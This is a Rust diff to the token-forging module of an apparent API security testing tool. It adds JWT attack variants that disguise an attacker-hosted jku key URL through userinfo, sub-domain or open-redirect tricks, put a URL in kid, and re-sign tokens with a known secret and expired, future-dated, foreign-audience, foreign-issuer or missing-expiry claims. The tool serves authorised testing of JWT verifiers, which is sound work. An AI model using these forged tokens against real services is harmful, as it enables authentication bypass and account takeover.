@@ -24,11 +24,20 @@ pub const ATTACKS: &[&str] = &[
     "key-confusion",
     "embedded-jwk",
     "jku",
+    "jku-userinfo",
+    "jku-subdomain",
+    "jku-redirect",
+    "kid-url",
     "kid-traversal",
     "kid-traversal-known-file",
     "kid-sql-injection",
     "psychic-signature",
     "resign",
+    "claim-exp-past",
+    "claim-nbf-future",
+    "claim-aud-foreign",
+    "claim-iss-foreign",
+    "claim-exp-missing",
 ];
 
 /// Twelve steps up: more than enough from any key folder, since `..` at the root stays there.
@@ -51,8 +60,11 @@ pub struct ForgeOptions {
     pub public_key_pem: Option<String>,
     /// A known or cracked HMAC secret (for resign).
     pub secret: Option<Vec<u8>>,
-    /// A URL the tester controls, to host the JWKS (for jku).
+    /// A URL the tester controls, to host the JWKS (for jku, its bypass shapes and kid-url).
     pub jku_url: Option<String>,
+    /// An open redirect on the trusted jku host, such as `https://trusted/redirect?url=`:
+    /// the jku URL is appended to it, percent-encoded (for jku-redirect).
+    pub jku_redirect: Option<String>,
     /// Claim edits applied to every variant, e.g. ("role", "admin"), ("exp", "+1h").
     pub set: Vec<(String, String)>,
     /// The current time, unix seconds, for relative time edits.
@@ -70,31 +82,84 @@ pub struct Variant {
     pub extra: Option<String>,
 }
 
-/// A variant the options left out, and what it would need: a probe lists these, so that
-/// "nothing accepted" never covers an attack that was not sent.
+/// A variant the options left out, what it would need and the option that gives it: a probe
+/// lists these, so that "nothing accepted" never covers an attack that was not sent.
 #[derive(Debug, Clone, PartialEq, Eq, Serialize)]
 pub struct Skipped {
     pub attack: &'static str,
     pub needs: &'static str,
+    pub option: &'static str,
 }
 
-/// What the optional variants need, in the words their errors use.
-const NEEDS: &[(&str, &str)] = &[
-    ("key-confusion", "the server's public key PEM"),
-    ("jku", "a jku URL you control"),
-    ("resign", "the HMAC secret"),
-];
+/// Whether a variant can be made from a token and the options.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Gate {
+    Ready,
+    /// An option is missing: (what it is, the CLI flag that gives it).
+    Needs(&'static str, &'static str),
+    /// The attack does not apply to this token (a jku bypass shape without a trusted jku).
+    Moot(&'static str),
+}
 
-/// The variants `opts` leave out.
-pub fn skipped(opts: &ForgeOptions) -> Vec<Skipped> {
-    NEEDS
+const JKU_NEEDS: Gate = Gate::Needs(
+    "a jku URL you control and a file to write its JWKS to (a probe of a target on this machine hosts it itself)",
+    "--jku URL --jwks-out FILE",
+);
+const SECRET_NEEDS: Gate = Gate::Needs(
+    "the HMAC secret (given, or found by jwt crack)",
+    "--secret S",
+);
+
+const NO_TRUSTED_JKU: &str = "the token's header names no trusted jku to disguise the URL as";
+
+/// What `name` needs beyond the token, given the options.
+fn gate(name: &str, header: &Map<String, Value>, opts: &ForgeOptions) -> Gate {
+    let trusted = header.get("jku").and_then(Value::as_str).is_some();
+    let jku = opts.jku_url.is_some();
+    match name {
+        "key-confusion" if opts.public_key_pem.is_none() => {
+            Gate::Needs("the server's public key PEM", "--key PUB.pem")
+        }
+        "jku" | "kid-url" if !jku => JKU_NEEDS,
+        "jku-userinfo" | "jku-subdomain" if !trusted => Gate::Moot(NO_TRUSTED_JKU),
+        "jku-userinfo" if !jku => JKU_NEEDS,
+        "jku-subdomain" if !opts.jku_url.as_deref().is_some_and(on_a_domain) => Gate::Needs(
+            "a jku URL on a domain name you control, with wildcard DNS, so that the trusted host can prefix it",
+            "--jku URL --jwks-out FILE",
+        ),
+        "jku-redirect" if opts.jku_redirect.is_none() && !trusted => Gate::Moot(NO_TRUSTED_JKU),
+        "jku-redirect" if opts.jku_redirect.is_none() => Gate::Needs(
+            "an open redirect on the trusted jku host",
+            "--jku-redirect URL-PREFIX",
+        ),
+        "jku-redirect" if !jku => JKU_NEEDS,
+        "resign" if opts.secret.is_none() => SECRET_NEEDS,
+        n if n.starts_with("claim-") && opts.secret.is_none() => SECRET_NEEDS,
+        _ => Gate::Ready,
+    }
+}
+
+/// A URL whose host is a domain name another name can be prefixed to: not an IP address and
+/// not localhost, which nothing resolves sub-domains of for certain.
+fn on_a_domain(url: &str) -> bool {
+    reqwest::Url::parse(url).is_ok_and(|u| {
+        u.domain()
+            .is_some_and(|d| d.contains('.') && !d.to_ascii_lowercase().ends_with("localhost"))
+    })
+}
+
+/// The variants `opts` leave out for this token.
+pub fn skipped(decoded: &Decoded, opts: &ForgeOptions) -> Vec<Skipped> {
+    ATTACKS
         .iter()
-        .filter(|(attack, _)| match *attack {
-            "key-confusion" => opts.public_key_pem.is_none(),
-            "jku" => opts.jku_url.is_none(),
-            _ => opts.secret.is_none(),
+        .filter_map(|attack| match gate(attack, &decoded.header, opts) {
+            Gate::Needs(needs, option) => Some(Skipped {
+                attack,
+                needs,
+                option,
+            }),
+            _ => None,
         })
-        .map(|&(attack, needs)| Skipped { attack, needs })
         .collect()
 }
 
@@ -102,10 +167,13 @@ pub fn skipped(opts: &ForgeOptions) -> Vec<Skipped> {
 /// [`skipped`]).
 pub fn forge(decoded: &Decoded, opts: &ForgeOptions) -> Result<Vec<Variant>> {
     let parts = Parts::new(decoded, opts)?;
-    // One fresh key pair serves both embedded-jwk and jku.
+    // One fresh key pair serves embedded-jwk and every jku variant, so one JWKS answers all.
     let mut pair = None;
     let mut out = Vec::new();
     for name in ATTACKS {
+        if gate(name, &parts.header, opts) != Gate::Ready {
+            continue;
+        }
         match make(name, &parts, opts, &mut pair) {
             Ok(v) => out.push(v),
             Err(JwtError::Forge(..)) => {}
@@ -132,6 +200,8 @@ struct Parts {
     alg: String,
     /// The payload segment: the original bytes unless claims were edited.
     payload_b64: String,
+    /// The claims after edits, when the payload is a claims object.
+    claims: Option<Map<String, Value>>,
     sig_len: usize,
 }
 
@@ -141,14 +211,17 @@ impl Parts {
             return Err(JwtError::Jwe);
         }
         let alg = d.alg.clone().unwrap_or_else(|| "HS256".into());
-        let payload_b64 = if opts.set.is_empty() {
-            d.payload_b64().to_string()
+        let (payload_b64, claims) = if opts.set.is_empty() {
+            (d.payload_b64().to_string(), d.claims().cloned())
         } else {
             let mut claims = d.claims().cloned().ok_or_else(|| {
                 JwtError::ClaimEdit("set".into(), "the payload is not a claims object".into())
             })?;
             apply_edits(&mut claims, &opts.set, opts.now)?;
-            b64::encode(Value::Object(claims).to_string())
+            (
+                b64::encode(Value::Object(claims.clone()).to_string()),
+                Some(claims),
+            )
         };
         let sig_len = match d.signature.len() {
             0 => expected_sig_len(&alg),
@@ -158,6 +231,7 @@ impl Parts {
             header: d.header.clone(),
             alg,
             payload_b64,
+            claims,
             sig_len,
         })
     }
@@ -174,7 +248,17 @@ impl Parts {
     }
 
     fn hmac_token(&self, alg: &str, header: String, key: &[u8]) -> Result<String> {
-        let input = format!("{header}.{}", self.payload_b64);
+        self.hmac_token_with(alg, header, &self.payload_b64, key)
+    }
+
+    fn hmac_token_with(
+        &self,
+        alg: &str,
+        header: String,
+        payload_b64: &str,
+        key: &[u8],
+    ) -> Result<String> {
+        let input = format!("{header}.{payload_b64}");
         let sig = hmac_raw(alg, key, input.as_bytes())?;
         Ok(format!("{input}.{}", b64::encode(sig)))
     }
@@ -205,13 +289,17 @@ fn make(
     opts: &ForgeOptions,
     pair: &mut Option<KeyPair>,
 ) -> Result<Variant> {
-    let need = || {
-        let what = NEEDS
-            .iter()
-            .find(|(a, _)| *a == name)
-            .map_or("", |(_, n)| *n);
-        JwtError::Forge(name.into(), format!("needs {what}"))
-    };
+    match gate(name, &p.header, opts) {
+        Gate::Ready => {}
+        Gate::Needs(what, option) => {
+            return Err(JwtError::Forge(
+                name.into(),
+                format!("needs {what} ({option})"),
+            ));
+        }
+        Gate::Moot(why) => return Err(JwtError::Forge(name.into(), why.into())),
+    }
+    let need = || JwtError::Forge(name.into(), "a needed option is missing".into());
     let variant = |token: String, explanation: String| Variant {
         attack: name,
         token,
@@ -265,16 +353,28 @@ fn make(
                 format!("Signed with a fresh {} key embedded in the jwk header: accepted by verifiers that trust the token's own key (CVE-2018-0114).", kp.alg),
             )
         }
-        "jku" => {
+        "jku" | "jku-userinfo" | "jku-subdomain" | "jku-redirect" | "kid-url" => {
             let url = opts.jku_url.as_deref().ok_or_else(need)?;
+            let trusted = p.header.get("jku").and_then(Value::as_str).unwrap_or_default();
+            let (member, value, why) = match name {
+                "jku" => ("jku", url.to_string(), format!("jku points to {url}; host the returned JWKS there. Accepted by verifiers that fetch keys from the token's jku without an allowlist.")),
+                "jku-userinfo" => ("jku", userinfo_shape(trusted, url).ok_or_else(need)?, format!("jku puts the trusted {trusted}'s host before an @, so the fetch goes to {url}: accepted by allowlists that only check how the URL starts.")),
+                "jku-subdomain" => ("jku", subdomain_shape(trusted, url).ok_or_else(need)?, format!("jku makes the trusted {trusted}'s host a sub-domain of {url}'s: accepted by allowlists that only check how the URL starts.")),
+                "jku-redirect" => {
+                    let prefix = opts.jku_redirect.as_deref().ok_or_else(need)?;
+                    let encoded: String = form_urlencoded::byte_serialize(url.as_bytes()).collect();
+                    ("jku", format!("{prefix}{encoded}"), format!("jku is an open redirect on the trusted host ({prefix}…) toward {url}: accepted by allowlists that check the first URL and then follow redirects."))
+                }
+                _ => ("kid", url.to_string(), format!("kid is the URL {url}, serving the returned JWKS: accepted by servers that fetch the key from a kid that looks like a URL.")),
+            };
             let kp = keypair(pair, &p.alg)?;
             let jwk = bare_jwk(&kp.public_jwk, Some(FORGED_KID));
-            let mut h = strip(&p.header, &["jwk", "x5u", "x5c"]);
-            h.insert("jku".into(), json!(url));
+            let mut h = strip(&p.header, &["jwk", "jku", "x5u", "x5c"]);
             h.insert("kid".into(), json!(FORGED_KID));
+            h.insert(member.into(), json!(value));
             let mut v = variant(
                 sign_payload_b64(&h, &p.payload_b64, kp.alg, &SigningKey::Pem(kp.private_pem.clone()))?,
-                format!("jku points to {url}; host the returned JWKS there. Accepted by verifiers that fetch keys from the token's jku without an allowlist."),
+                why,
             );
             v.extra = Some(json!({"keys": [jwk]}).to_string());
             v
@@ -306,8 +406,94 @@ fn make(
                 format!("Re-signed {alg} with the known secret: valid wherever that secret is trusted, with the edited claims."),
             )
         }
+        claim if claim.starts_with("claim-") => {
+            let secret = opts.secret.as_deref().ok_or_else(need)?;
+            let mut claims = p.claims.clone().ok_or_else(|| {
+                JwtError::Forge(name.into(), "the payload is not a claims object".into())
+            })?;
+            let why = claim_variant(claim, &mut claims, opts.now);
+            let alg = p.hs_alg();
+            let payload = b64::encode(Value::Object(claims).to_string());
+            variant(
+                p.hmac_token_with(alg, p.header_with(&[("alg", json!(alg))], &[]), &payload, secret)?,
+                format!("Re-signed {alg} with the known secret, {why}"),
+            )
+        }
         other => return Err(JwtError::Forge(other.into(), "unknown attack".into())),
     })
+}
+
+/// How far the claim variants move a time: well past any clock-skew leeway a server allows.
+const HOUR: i64 = 3600;
+
+/// An audience and an issuer that belong to nobody (RFC 2606 reserves .invalid).
+const FOREIGN_AUD: &str = "https://another-service.apiward.invalid";
+const FOREIGN_ISS: &str = "https://another-issuer.apiward.invalid";
+
+/// Changes `claims` for one claim check and keeps every other check passing (a fresh exp,
+/// an nbf in the past), so the variant's answer speaks for that check alone. Returns what
+/// it changed, as the rest of a sentence.
+fn claim_variant(name: &str, claims: &mut Map<String, Value>, now: i64) -> String {
+    if claims.contains_key("exp") {
+        claims.insert("exp".into(), json!(now + HOUR));
+    }
+    if claims.contains_key("nbf") {
+        claims.insert("nbf".into(), json!(now - 60));
+    }
+    if claims
+        .get("iat")
+        .and_then(Value::as_i64)
+        .is_some_and(|iat| iat > now)
+    {
+        claims.insert("iat".into(), json!(now));
+    }
+    match name {
+        "claim-exp-past" => {
+            claims.insert("exp".into(), json!(now - HOUR));
+            "exp an hour in the past: accepted by servers that do not check exp (RFC 7519 §4.1.4)."
+                .into()
+        }
+        "claim-nbf-future" => {
+            claims.insert("nbf".into(), json!(now + HOUR));
+            "nbf an hour in the future: accepted by servers that do not check nbf (RFC 7519 §4.1.5).".into()
+        }
+        "claim-aud-foreign" => {
+            claims.insert("aud".into(), json!(FOREIGN_AUD));
+            format!(
+                "aud {FOREIGN_AUD}: accepted by servers that do not check that they are the audience (RFC 7519 §4.1.3)."
+            )
+        }
+        "claim-iss-foreign" => {
+            claims.insert("iss".into(), json!(FOREIGN_ISS));
+            format!(
+                "iss {FOREIGN_ISS}: accepted by servers that do not check the issuer (RFC 8725 §3.8)."
+            )
+        }
+        _ => {
+            claims.remove("exp");
+            "no exp at all: accepted by servers that do not require an expiry, so such a token never stops working (RFC 8725 §3.10 asks for short-lived tokens).".into()
+        }
+    }
+}
+
+/// `scheme://TRUSTED-HOST@ATTACKER-HOST/path`: the trusted host (and port) becomes user info.
+fn userinfo_shape(trusted: &str, attacker: &str) -> Option<String> {
+    let t = reqwest::Url::parse(trusted).ok()?;
+    let mut a = reqwest::Url::parse(attacker).ok()?;
+    // A port becomes the password, so the text still reads `TRUSTED-HOST:PORT@`.
+    a.set_username(t.host_str()?).ok()?;
+    a.set_password(t.port().map(|p| p.to_string()).as_deref())
+        .ok()?;
+    Some(a.to_string())
+}
+
+/// `scheme://TRUSTED-HOST.ATTACKER-DOMAIN/path`: the attacker's domain under the trusted name.
+fn subdomain_shape(trusted: &str, attacker: &str) -> Option<String> {
+    let t = reqwest::Url::parse(trusted).ok()?;
+    let mut a = reqwest::Url::parse(attacker).ok()?;
+    let host = format!("{}.{}", t.host_str()?, a.domain()?);
+    a.set_host(Some(&host)).ok()?;
+    Some(a.to_string())
 }
 
 fn keypair<'a>(pair: &'a mut Option<KeyPair>, alg: &str) -> Result<&'a KeyPair> {
